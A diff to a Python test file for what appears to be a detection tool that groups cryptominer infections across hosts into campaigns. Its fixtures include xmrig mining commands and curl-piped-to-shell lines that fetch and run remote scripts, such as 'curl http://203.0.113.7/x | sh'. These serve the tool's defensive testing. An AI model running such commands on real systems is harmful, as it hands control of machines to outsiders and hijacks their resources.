@@ -42,7 +42,7 @@ def test_who_mines_for_one_account_is_one_crew_and_for_two_are_two(tmp_path: Pat
         ("xmrig -o gulf.moneroocean.stream:10128 -u ocean77.rig1 -p x", ["ocean77@moneroocean.stream"]),
         ("./x --url=stratum+tcp://192.0.2.7:3333 --user=ocean77/2 --pass=c=XMR", ["ocean77@192.0.2.7"]),
         ("xmrig -o pool.example:3333 -u miner -p x", []),
-        ("xmrig -o pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", []),
+        (f"xmrig -o pool.example:3333 -u {WALLET} -p x", []),
         # What curl and mysql mean by these options.
         ("curl -u deploy77:secret -o /tmp/x https://ci.example/x", []),
         ("mysql -u reports77 -P 3306 -h db.example", []),
@@ -88,3 +88,16 @@ def test_jobs_that_fetch_from_one_bare_address_outside_are_a_campaign(
     lines = [line("cron_jobs", 0, T, "added", f"h{n}", command="x") for n in range(200)]
     lines += [_job(f"h{n}", T + n * HOUR, f"curl -fsSL http://{address}/{n}xyz/i.sh | bash") for n in range(count)]
     assert [len(hosts) for hosts in told(reported(tmp_path, names, lines))] == ([count] if is_one else [])
+
+
+def test_what_fetched_a_campaigns_miner_is_of_that_campaign(tmp_path: Path, names: Names) -> None:
+    lines = [miner(host, T + 600, wallet="4w") for host in ("a", "b", "c")]
+    shell = {"exe_path": "/usr/bin/dash", "account_uid": "33", "cmdline": "sh -c curl http://203.0.113.7/x | sh", "evidence": "x"}
+    for number, host in enumerate(("a", "b")):
+        lines.append(line("service_account_shell", 1, T, "added", host, pid=f"9{number}", start_time=str(T), **shell))
+        # Where two programs mine, nothing says whose shell it was.
+        other = {"pid": "5", "start_time": str(T), "exe_path": f"/opt/{host}/y", "remote_address": f"198.51.100.{number}"}
+        lines.append(line("pool_connection", 1, T, "added", host, evidence="x", **other))
+    report = reported(tmp_path, names, lines)
+    assert told(report) == [["a", "b", "c"]]
+    assert sorted(one["campaign"] for one in report["incidents"]) == ["", "", *["C1"] * 5]
